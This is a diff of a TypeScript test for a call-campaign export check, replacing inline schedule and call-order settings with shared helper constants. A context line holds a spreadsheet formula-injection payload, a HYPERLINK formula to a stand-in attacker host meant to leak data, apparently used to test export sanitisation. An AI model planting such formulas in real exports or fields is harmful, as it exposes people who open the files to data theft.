@@ -15,7 +15,7 @@ import { maskNumber } from '../../src/domain/contact.ts';
 import { RESULT_CODES } from '../../src/domain/result-codes.ts';
 import { customers, engineHarness, type EngineHarness } from '../helpers/engine.ts';
 import { tenantWithKey } from '../helpers/app.ts';
-import { fullTaskConfig } from '../helpers/world.ts';
+import { IN_ORDER, WORKDAY, fullTaskConfig } from '../helpers/world.ts';
 import { dbKind } from '../helpers/db.ts';
 
 type Row = Record<string, string>;
@@ -29,14 +29,9 @@ const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")';
 /** Five customers on the real engine: c0001 always busy (called 3 times), the rest answered. */
 const config = fullTaskConfig({
   name: 'Export check',
-  schedule: {
-    regular: [{ start: '09:00', end: '18:00' }],
-    specialDates: [],
-    specialPeriods: [],
-    allocations: { enabled: false, entries: [] },
-  },
+  schedule: WORKDAY,
   strategy: { maxRingSec: 20, intervalSec: 3, callsPerInterval: 3 },
-  callStrategy: { order: { by: 'none' }, numberRounds: { mode: 'sequence' } },
+  callStrategy: IN_ORDER,
   businessResultPolicy: [],
 });
 
